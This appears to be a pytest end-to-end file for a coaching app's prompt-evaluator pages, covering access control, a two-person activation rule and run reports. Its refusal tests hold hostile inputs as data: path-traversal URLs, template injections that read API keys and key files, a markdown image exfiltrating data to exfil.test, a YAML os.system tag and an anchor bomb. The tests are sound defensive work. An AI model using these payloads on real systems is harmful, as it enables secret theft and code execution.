"""The evaluator's pages over real HTTP: who gets in, what can be done, what can never be reached."""

from __future__ import annotations

import re
import shutil
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import httpx
import pytest
from starlette.routing import BaseRoute

from coach.adapters.active_prompts import active_folder
from coach.domain.model import Role
from coach.settings import Settings
from evals import tasks
from evals.model import Score
from evals.record_reading import read_record
from evals.records import ArmNote
from evals.reports.showing import parts_of
from evals.results import result_of
from tests.e2e.conftest import Site
from tests.e2e.evaluators import (
    FRAMES,
    NEW_RULE,
    NEXT,
    PROMPT,
    SHIPPED,
    add_run,
    changed_frames,
    changed_rule,
    draft,
    evaluator,
    open_site,
)
from tests.unit.evals.made_runs import a_manifest, whole, write_run

pytestmark = pytest.mark.browser  # no browser in it, but the same real server
CANARY = "CNRY-harbourlight"
ADDRESSES = (
    "/prompts",
    "/prompts/draft?base=as-delivered&file=reflection-questions.prompty",
    "/prompts/texts/as-delivered/reflection-questions.prompty",
    "/prompts/versions/as-delivered",
    "/prompts/versions/as-delivered/roll-back",
    "/prompts/versions/as-delivered/discard",
    "/prompts/look/as-delivered",
    "/runs",
    "/runs/new",
    "/runs/compare?one=a&other=b",
    "/runs/20260101-000000-gate",
    "/runs/20260101-000000-gate/progress",
    "/runs/20260101-000000-gate/stop",
    "/runs/20260101-000000-gate/texts/question_quality-embedded",
    "/runs/20260101-000000-gate/files/report.md",
    "/runs/20260101-000000-gate/files/report.html",
    "/runs/20260101-000000-gate/files/record.jsonl",
)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, model_cache: Path) -> Iterator[Site]:
    yield from open_site(tmp_path_factory.mktemp("evaluators"), model_cache)


@pytest.fixture
def settings(site: Site) -> Settings:
    return site.coach.settings  # type: ignore[return-value] # an EvaluatorCoach has real ones


@pytest.fixture(scope="module")
def noor(site: Site) -> httpx.Client:
    return site.client(evaluator(site, "Noor"))


@pytest.fixture(scope="module")
def ada(site: Site) -> httpx.Client:
    return site.client(evaluator(site, "Ada"))


def deed(client: httpx.Client, version: str, name: str) -> httpx.Response:
    return client.post(f"/prompts/versions/{version}/{name}")


def version_in_force(settings: Settings) -> str:
    folder = active_folder(settings.home)
    return folder.name if folder else "as-delivered"


# -- who gets in --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", [Role.MANAGER, Role.FACILITATOR, Role.ADMIN])
def test_for_every_other_role_the_pages_are_not_there(site: Site, role: Role) -> None:
    """Any method, known or not: the very answer that an address gives behind which there is nothing."""
    client = site.client(site.coach.add_member(f"Role{role.value}", role))
    for address in ADDRESSES:
        for method in ("GET", "POST", "PUT", "DELETE"):
            nothing = client.request(method, "/nowhere/at/all")
            answer = client.request(method, address)
            assert (answer.status_code, answer.text) == (nothing.status_code, nothing.text), (method, address)
    assert "/prompts" not in client.get("/home", follow_redirects=True).text


def test_a_stranger_is_sent_to_the_door(site: Site) -> None:
    for address in ADDRESSES:
        answer = site.client().get(address)
        assert (answer.status_code, answer.headers["location"]) == (303, "/sign-in"), address


def test_an_evaluator_who_also_manages_reaches_both(site: Site) -> None:
    both = site.client(site.coach.add_member("Both", Role.EVALUATOR, Role.MANAGER))
    assert both.get("/prompts").status_code == both.get("/journal").status_code == 200


def test_who_loses_the_role_is_out_at_once(site: Site) -> None:
    from dataclasses import replace

    member = evaluator(site, "Gone")
    client = site.client(member)
    assert client.get("/prompts").status_code == 200
    site.coach.book.members[member.id] = replace(member, roles=frozenset({Role.FACILITATOR}))
    assert client.get("/prompts").status_code == 404


def test_a_form_of_another_site_changes_nothing(noor: httpx.Client) -> None:
    data = {"base": "as-delivered", "file": PROMPT, "text": changed_rule()}
    answer = noor.post("/prompts/draft", data=data, headers={"origin": "https://evil.example"})
    assert answer.status_code == 403
    assert noor.post("/runs/new", headers={"sec-fetch-site": "cross-site"}).status_code == 403


def routes_of(routes: list[BaseRoute], before: str = "") -> Iterator[tuple[str, set[str]]]:
    """Every address of the application, mounted ones included, and its methods."""
    for route in routes:
        contexts = getattr(route, "effective_route_contexts", None)
        if contexts is not None:
            for one in contexts():
                held = one.starlette_route or one
                yield before + held.path, set(getattr(held, "methods", None) or {"GET"})
            continue
        path = getattr(route, "path", "")
        inner = getattr(route, "routes", None)
        if inner:
            yield from routes_of(inner, before + path)
        elif path:
            yield before + path, set(getattr(route, "methods", None) or {"GET"})


def test_no_route_leads_an_evaluator_to_a_members_words(
    site: Site, noor: httpx.Client, settings: Settings
) -> None:
    """Every address of the program, every method, with every id that an evaluator could have learnt."""
    writer = site.coach.add_member("Writer")
    entry = site.coach.reflect.ask(writer.id, None, f"{CANARY} is what I wrote last night.")
    site.coach.accounts.set_roster(writer.id, [CANARY])
    asked = 0
    for path, methods in sorted(all_routes(site)):
        if "heartbeat" in path or path.startswith("/sign-"):
            continue  # a stream without end, and the door itself
        for known in (entry.id, entry.conversation_id, writer.id, "as-delivered", "case-slides"):
            address = re.sub(r"\{file:path\}", PROMPT, path)
            address = re.sub(r"\{[^}]*\}", known, address)
            for method in sorted(methods - {"HEAD"}):
                answer = noor.request(method, address, data={"words": CANARY.lower(), "sure": "no"})
                asked += 1
                assert CANARY not in answer.text, (method, address)
                assert CANARY not in str(answer.headers), (method, address)
            if "{" not in path:
                break
    assert asked > 60, "the list of routes was read"
    assert site.coach.book.entries[writer.id] == [entry], "and nothing of it was changed"


def all_routes(site: Site) -> list[tuple[str, frozenset[str]]]:
    from ui.app import create_app

    with pytest.MonkeyPatch.context() as patch:
        import evals.pages

        patch.setattr("ui.app.contributed", lambda: (evals.pages,))
        app = create_app(site.coach, site.url)
    found = [(path, frozenset(methods)) for path, methods in routes_of(app.routes)]
    paths = {path for path, _ in found}
    assert {"/journal/{conversation_id}", "/prompts", "/runs/{run}", "/my-data/export/{form}"} <= paths
    return list(dict.fromkeys(found))


# -- drafts -------------------------------------------------------------------------------------------------


def test_the_list_shows_every_prompt_and_its_tasks(noor: httpx.Client) -> None:
    page = noor.get("/prompts").text
    for words in (
        "reflection-questions",
        "frames",
        "signposts",
        "question quality",
        "As delivered",
        "First version.",
    ):
        assert words in page
    assert "data:" not in page and str(Path.home()) not in page


def test_a_prompt_can_be_read_rule_by_rule(noor: httpx.Client) -> None:
    page = noor.get(f"/prompts/texts/as-delivered/{PROMPT}").text
    assert "<li>Write one sentence of at most 25 words that reads well aloud, as one thought, and " in page
    assert "{{reflection}}" in page
    assert "Speak to the manager" in page
    assert noor.get(f"/prompts/texts/as-delivered/{FRAMES}").status_code == 200


@pytest.mark.parametrize(
    "address",
    [
        "/prompts/texts/as-delivered/prompts.lock.json",
        "/prompts/texts/as-delivered/..%2F..%2Fpyproject.toml",
        "/prompts/texts/..%2F..%2Fdata/reflection-questions.prompty",
        "/prompts/versions/..%2F..",
        "/prompts/versions/nobody-made-this",
        "/prompts/draft?base=as-delivered&file=../../pyproject.toml",
        "/runs/..%2Fprompts",
        "/runs/none/files/record.jsonl",
    ],
)
def test_nothing_beside_prompts_and_runs_can_be_named(noor: httpx.Client, address: str) -> None:
    answer = noor.get(address)
    assert answer.status_code == 404
    assert "peer-coach" not in answer.text


def test_a_draft_is_kept_and_shows_what_it_changes(noor: httpx.Client, settings: Settings) -> None:
    version = draft(noor, changed_rule().replace("\n", "\r\n"))
    page = noor.get(f"/prompts/versions/{version}").text
    assert f"reflection-questions {NEXT}" in page and "Written by Noor" in page
    assert "<del>Choose</del>" in page and "<ins>Find</ins>" in page
    assert "No run has judged this" in page and "Propose it" not in page
    assert "Wrote a draft" in noor.get("/prompts").text
    assert version_in_force(settings) == "as-delivered", "a draft changes nothing"


REFUSED = {
    "nothing": "",
    "no form": "Write nice questions.",
    "the same": None,
    "no new version": (
        f"  version: {SHIPPED}",
        f"  version: {SHIPPED}",
        "Choose what the whole",
        "Find what the whole",
    ),
    "no changelog": (
        f"  version: {SHIPPED}",
        f"  version: {NEXT}",
        "Choose what the whole",
        "Find what the whole",
    ),
    "another role": ("\nuser:\n", "\ndeveloper:\n", "", ""),
    "a logic tag": ("Choose what the whole", "{% for x in y %}", "", ""),
    "a comment tag": ("Choose what the whole", "{# hidden #}", "", ""),
    "an expression": ("Choose what the whole", "{{reflection.__class__}}", "", ""),
    "a call": ("Choose what the whole", "{{ cycler() }}", "", ""),
    "the environment": ("Choose what the whole", "${env:OPENAI_API_KEY}", "", ""),
    "a file": ("Choose what the whole", "${file:../key/master.key}", "", ""),
    "an image": ("Choose what the whole", "![x](http://exfil.test/?q={{reflection}})", "", ""),
    "an unknown value": ("Choose what the whole", "{{roster}}", "", ""),
    "a value among the rules": ("Choose what the whole", "{{reflection}}", "", ""),
    "a value without its fence": ("<reflection>\n{{reflection}}\n</reflection>", "{{reflection}}", "", ""),
    "a connection": ("model:\n", "model:\n  connection: {endpoint: 'http://exfil.test'}\n", "", ""),
    "a model of its own": ("model:\n", "model:\n  id: exfil\n", "", ""),
    "an unknown key": ("description:", "hook: x\ndescription:", "", ""),
    "a new input": (
        "inputs:\n",
        "inputs:\n  - {name: email, kind: string, required: true}\n",
        "{{reflection}}",
        "{{reflection}} {{email}}",
    ),
    "a new output": ("outputs:\n", "outputs:\n  - {name: secret, kind: string, required: true}\n", "", ""),
    "a YAML object": ("description:", "description: !!python/object/apply:os.system [id]\nx:", "", ""),
    "a NUL": ("Choose what the whole", "Choose\0", "", ""),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_draft_that_could_do_harm_is_refused_and_its_text_is_kept(noor: httpx.Client, name: str) -> None:
    """Twenty and more templates that must never lie on the shelf."""
    change = REFUSED[name]
    text = noor.get("/prompts/draft?base=as-delivered&file=" + PROMPT).text
    original = (Path(__file__).parent.parent.parent / "prompts" / PROMPT).read_text(encoding="utf-8")
    assert "textarea" in text
    if isinstance(change, str):
        tried = change
    elif change is None:
        tried = original
    else:
        tried = (changed_rule() if change[0] not in (f"  version: {SHIPPED}",) else original).replace(
            *change[:2], 1
        )
        tried = tried.replace("Find what the whole", "Choose what the whole").replace(*change[:2], 1)
        tried = tried.replace(change[2], change[3]) if change[2] else tried
        assert name == "no new version" or tried != original, "the attack was written"
    before = noor.get("/prompts").text.count('plain-line"')
    answer = noor.post("/prompts/draft", data={"base": "as-delivered", "file": PROMPT, "text": tried})
    assert answer.status_code == 400
    assert 'class="wrong" role="alert"' in answer.text and "Your text is still below." in answer.text
    assert noor.get("/prompts").text.count('plain-line"') == before


def test_yaml_that_grows_without_end_is_refused_quickly(noor: httpx.Client) -> None:
    bomb = "version: 9\nchangelog: []\na: &a [x, x]\n" + "".join(
        f"b{n}: &b{n} [*{'a' if n == 0 else f'b{n - 1}'}, *{'a' if n == 0 else f'b{n - 1}'}]\n"
        for n in range(40)
    )
    began = time.monotonic()
    answer = noor.post("/prompts/draft", data={"base": "as-delivered", "file": FRAMES, "text": bomb})
    assert answer.status_code == 400 and "anchors" in answer.text
    assert time.monotonic() - began < 5


# -- two people ---------------------------------------------------------------------------------------------


def test_a_draft_comes_into_force_by_two_people_and_goes_out_by_one(
    site: Site, noor: httpx.Client, ada: httpx.Client, settings: Settings
) -> None:
    """No run: no proposal. One person: no activation. Two: it is in force, and in the log. Back: at once."""
    version = draft(noor, changed_rule("1.1.0"))
    assert "No run shows" in deed(noor, version, "propose").text
    assert deed(noor, version, "activate").status_code == 409
    assert deed(noor, version, "roll-back").status_code == 409, "what never was in force is no way back"
    add_run(settings, "20260101-000000-gate", version)
    assert "A run has passed it" in noor.get(f"/prompts/versions/{version}").text
    assert deed(noor, version, "propose").status_code == 200
    assert deed(noor, version, "propose").status_code == 409
    own = deed(noor, version, "activate")
    assert own.status_code == 409 and "A second evaluator has to" in own.text
    assert version_in_force(settings) == "as-delivered"
    assert "Noor proposes to bring this into force" in ada.get(f"/prompts/versions/{version}").text
    assert "One version waits" in ada.get("/prompts").text
    assert deed(ada, version, "activate").status_code == 200
    assert version_in_force(settings) == version
    assert NEW_RULE in (settings.home / "prompts" / version / PROMPT).read_text(encoding="utf-8")
    assert f"/prompts/texts/{version}/{PROMPT}" in ada.get("/prompts").text
    assert deed(noor, "as-delivered", "roll-back").status_code == 200
    assert version_in_force(settings) == "as-delivered"
    assert deed(noor, "as-delivered", "roll-back").status_code == 409
    ids = {
        name: next(m.id for m in site.coach.book.members.values() if m.name == name)
        for name in ("Noor", "Ada")
    }
    log = [
        (line.actor_id, line.action, line.object_id) for line in site.coach.parts.audit.of_owner("prompts")
    ][:3]
    assert log == [
        (ids["Noor"], "prompts.roll-back", "as-delivered"),
        (ids["Ada"], "prompts.activate", version),
        (ids["Noor"], "prompts.propose", version),
    ]
    assert deed(ada, version, "roll-back").status_code == 200, "what was in force once needs one step"
    assert deed(ada, "as-delivered", "roll-back").status_code == 200


def test_a_proposal_can_be_taken_back(noor: httpx.Client, ada: httpx.Client, settings: Settings) -> None:
    version = draft(noor, changed_rule("1.2.0"))
    add_run(settings, "20260102-000000-gate", version)
    assert deed(noor, version, "propose").status_code == 200
    assert deed(ada, version, "withdraw").status_code == 200
    assert deed(ada, version, "activate").status_code == 409
    assert version_in_force(settings) == "as-delivered"


@pytest.mark.parametrize(
    ("options", "says"),
    [
        ({"limit": 4}, "It was tried on some of the cases."),
        ({"command": "run", "limit": 4}, "It was tried on some of the cases."),
        ({"worse": 60}, "A run found it worse"),
        ({"tasks": ("question_quality",)}, "left out tasks"),
    ],
)
def test_a_run_that_proves_too_little_opens_no_door(
    noor: httpx.Client, settings: Settings, options: dict[str, object], says: str
) -> None:
    number = f"2.{len(says)}.{len(options)}{'7' if 'command' in options else ''}"
    version = draft(noor, changed_rule(number))
    add_run(settings, f"20260103-{abs(hash(number)) % 10**6:06d}-gate", version, **options)
    assert says in noor.get(f"/prompts/versions/{version}").text
    assert deed(noor, version, "propose").status_code == 409


def test_a_run_against_another_version_proves_nothing(
    noor: httpx.Client, ada: httpx.Client, settings: Settings
) -> None:
    """What counts is the version in force now, not the one that was in force when somebody looked."""
    first, second = draft(noor, changed_rule("3.0.0")), draft(noor, changed_rule("3.1.0"))
    add_run(settings, "20260104-000001-gate", first)
    add_run(settings, "20260104-000002-gate", second)
    assert deed(noor, first, "propose").status_code == deed(noor, second, "propose").status_code == 200
    assert deed(ada, first, "activate").status_code == 200
    stale = deed(ada, second, "activate")
    assert stale.status_code == 409 and "No run shows" in stale.text
    assert deed(ada, "as-delivered", "roll-back").status_code == 200


def test_files_that_were_changed_on_the_disk_do_not_come_into_force(
    noor: httpx.Client, ada: httpx.Client, settings: Settings
) -> None:
    version = draft(noor, changed_rule("4.0.0"))
    add_run(settings, "20260105-000000-gate", version)
    assert deed(noor, version, "propose").status_code == 200
    lock = settings.home / "prompts" / version / "prompts.lock.json"
    lock.write_text("{}", encoding="utf-8")
    answer = deed(ada, version, "activate")
    assert answer.status_code == 409 and "changed in the data folder" in answer.text
    assert version_in_force(settings) == "as-delivered"


def test_a_reload_after_a_form_sends_nothing_again(noor: httpx.Client) -> None:
    answer = noor.get("/prompts/versions/as-delivered/activate")
    assert (answer.status_code, answer.headers["location"]) == (303, "/prompts/versions/as-delivered")
    assert noor.get("/prompts/versions/as-delivered/anything").status_code == 404


# -- runs ---------------------------------------------------------------------------------------------------


def test_a_result_shows_figures_plots_and_both_texts(noor: httpx.Client, settings: Settings) -> None:
    version = draft(noor, changed_rule("5.0.0"))
    add_run(settings, "20260106-000000-gate", version, worse=3)
    page = noor.get("/runs/20260106-000000-gate").text
    assert f"reflection-questions {NEXT} against As delivered" in page
    for words in (
        "<svg",
        "Worse: All criteria together",
        "It blames.",
        "<del>What</del>",
        "<ins>Why</ins>",
    ):
        assert words in page, words
    told = str(tasks.task("question_quality").samples()[0].input["text"])
    assert re.split(r"['\"]", told)[0] in page, "the made-up reflection stands beside the answers"
    assert " style=" not in page and "<script>" not in page
    report = noor.get("/runs/20260106-000000-gate/files/report.md")
    assert report.headers["content-disposition"].startswith("attachment")
    assert str(settings.home) not in page + report.text
    assert noor.get("/runs/20260106-000000-gate/files/record.jsonl").text.count("\n") > 100
    page_file = noor.get("/runs/20260106-000000-gate/files/report.html")
    assert page_file.headers["content-disposition"] == 'attachment; filename="20260106-000000-gate.html"'
    assert page_file.text.startswith("<!doctype html>") and "It got worse" in page_file.text
    assert str(settings.home) not in page_file.text


def test_the_parts_of_the_set_have_their_intervals(noor: httpx.Client, settings: Settings) -> None:
    """A mark and a line for each part in the plot, and the same interval as figures in the table."""
    version = draft(noor, changed_rule("5.0.1"))
    folder = add_run(settings, "20260106-100000-gate", version, worse=30, tasks=("question_quality",))
    held = read_record(folder)
    (part, *_) = parts_of(result_of(held), held)
    assert part.dots is not None and len(part.dots.rows) > 5
    page = noor.get("/runs/20260106-100000-gate").text
    plot = page.partition("Parts of the set: All criteria together")[2].partition("</figure>")[0]
    assert plot.count('class="plot-interval') >= len(part.dots.rows)
    full, small = plot.count('r="5"') + plot.count("<rect"), plot.count('r="4"')
    assert (full, small) == tuple(
        sum(row.part.counts is counts for row in part.dots.rows) for counts in (True, False)
    )
    for row in part.dots.rows:
        assert f"{row.part.told.axis}: {row.part.told.value}" in plot
    table = page.partition("<summary>Parts of the set</summary>")[2].partition("</table>")[0]
    low, high = next(row.part.interval for row in part.dots.rows if row.part.interval and row.part.counts)
    assert f"{low:+.3f} … {high:+.3f}".replace("-", "−") in table


def test_a_run_that_a_person_signed_off_does_not_look_like_one_that_passed(
    noor: httpx.Client, settings: Settings
) -> None:
    """The heading, the list and every file say whose word it rests on."""
    before = {"ask": {"version": "1.0.0", "sha256": "a", "file": "ask.prompty"}}
    after = {
        "ask": {**before["ask"], "version": "1.1.0", "sha256": "b", "signed": "Noor: <b>it reads well</b>."}
    }
    arms = {"baseline": ArmNote("", prompts=before), "candidate": ArmNote("", prompts=after)}
    manifest = replace(a_manifest(12, mode="stub"), arms=arms)
    rows = [
        replace(row, scores={**row.scores, "all": Score(0.0)})
        if (row.arm, row.case, row.epoch) in {("candidate", "c0", 1), ("candidate", "c0", 2)}
        else row
        for row in whole(manifest, 5)
    ]
    run = "20260106-200000-gate"
    write_run(settings.home / "evals" / run, manifest, rows, 5)
    page = noor.get(f"/runs/{run}").text
    assert "<h1>Not decided, and signed off</h1>" in page and "It holds" not in page
    words = "signed off by Noor because &lt;b&gt;it reads well&lt;/b&gt;"
    assert words in page and words in noor.get(f"/runs/{run}/files/report.html").text
    assert "signed off by Noor" in noor.get(f"/runs/{run}/files/report.md").text
    line = noor.get("/runs").text.partition(f'href="/runs/{run}"')[2].partition("</a>")[0]
    assert "Signed off" in line
    shutil.rmtree(settings.home / "evals" / run)


def test_two_runs_can_be_compared(noor: httpx.Client, settings: Settings) -> None:
    version = draft(noor, changed_rule("5.1.0"))
    for name, worse in (("20260107-000001-run", 0), ("20260107-000002-run", 40)):
        add_run(settings, name, version, worse=worse, command="run", tasks=("question_quality",))
    page = noor.get("/runs/compare?one=20260107-000001-run&other=20260107-000002-run").text
    assert "It got worse" in page
    page = noor.get("/runs/compare?one=20260107-000001-run&other=20260106-000000-gate")
    assert page.status_code == 409 and "cannot be compared" in page.text
    assert noor.get("/runs/compare?one=x&other=y").status_code == 404


def test_a_record_with_a_hole_shows_no_figure(noor: httpx.Client, settings: Settings) -> None:
    version = draft(noor, changed_rule("5.2.0"))
    record = add_run(settings, "20260108-000000-gate", version) / "record.jsonl"
    lines = record.read_text(encoding="utf-8").splitlines(keepends=True)
    record.write_text("".join(lines[:5] + lines[6:]), encoding="utf-8")
    page = noor.get("/runs/20260108-000000-gate").text
    assert "The run did not work" in page and "is missing" in page and "<table" not in page
    assert noor.get("/runs").status_code == 200
    record.write_text("".join(lines[:5]), encoding="utf-8")
    assert "The run was stopped" in noor.get("/runs/20260108-000000-gate").text


@pytest.mark.parametrize(
    ("form", "says"),
    [
        ({"candidate": "as-delivered", "baseline": "as-delivered"}, "Both sides say the same"),
        ({"extent": "some", "limit": "many"}, "a number of cases from 1 to 500"),
        ({"extent": "some", "limit": "0"}, "a number of cases from 1 to 500"),
        ({"extent": "some", "limit": "9" * 5000}, "a number of cases from 1 to 500"),
        ({"task": "no-such-task"}, "There is no such task"),
        ({"mode": "llm"}, "There is no such task"),
    ],
)
def test_a_run_that_cannot_be_is_refused_before_it_begins(
    noor: httpx.Client, settings: Settings, form: dict[str, str], says: str
) -> None:
    version = draft(noor, changed_rule("6.0.0"))
    before = set((settings.home / "evals").glob("*"))
    answer = noor.post("/runs/new", data={"candidate": version, "baseline": "as-delivered", **form})
    assert answer.status_code == 400 and says in answer.text
    assert set((settings.home / "evals").glob("*")) == before


def test_one_run_at_a_time_and_it_can_be_stopped_and_continued(
    noor: httpx.Client, ada: httpx.Client, settings: Settings
) -> None:
    """The real command in a process of its own, seen through the page from start to stop to end."""
    version = draft(noor, changed_frames(), FRAMES)
    form = {"candidate": version, "baseline": "as-delivered", "extent": "some", "limit": "400",
            "task": "question_quality", "mode": "embedded"}  # fmt: skip
    address = noor.post("/runs/new", data=form).headers["location"]
    second = ada.post("/runs/new", data=form)
    assert second.headers["location"] == f"{address}?busy=1"
    assert "One run at a time" in ada.get(second.headers["location"]).text
    until = time.monotonic() + 400  # with nothing in the cache the corpus is embedded first
    while (now := ada.get(f"{address}/progress").json()).get("done", 0) < 3:
        assert now["state"] == "running", (now, ada.get(address).text)
        assert time.monotonic() < until, now
        time.sleep(0.2)
    assert now["total"] > now["done"] and "answers" in now["said"]
    assert ada.post(f"{address}/stop").status_code == 303
    assert ada.get(f"{address}/progress").json() == {"state": "stopped"}
    page = ada.get(address).text
    assert "The run was stopped" in page and "Go on with it" in page
    folder = settings.home / "evals" / address.rpartition("/")[2]
    assert not (folder / "work").exists(), "the throw-away store is gone"
    assert noor.post(f"{address}/go-on").status_code == 303
    assert noor.get(f"{address}/progress").json()["state"] == "running"
    noor.post(f"{address}/stop")


def test_the_process_of_a_run_knows_nothing_that_leads_to_members(settings: Settings, tmp_path: Path) -> None:
    from dataclasses import replace

    from coach.settings import measuring_environment, read_settings

    rich = replace(settings, database_url="postgresql://u:secret@db/x", model="openai:x", model_key="secret")
    environment = measuring_environment(rich, tmp_path)
    own = {name: value for name, value in environment.items() if name.startswith("COACH_")}
    assert "secret" not in str(own) and str(settings.home) not in str(own)
    child = read_settings(own)
    assert (child.database_url, child.model, child.model_key) == ("", "", "")
    assert child.key_file != settings.key_file and child.cache == settings.cache


def test_pages_carry_the_walls(noor: httpx.Client) -> None:
    for address in ("/prompts", "/runs", "/runs/new"):
        answer = noor.get(address)
        assert "script-src 'self'; style-src 'self'" in answer.headers["content-security-policy"]
        assert answer.headers["cache-control"] == "no-store"
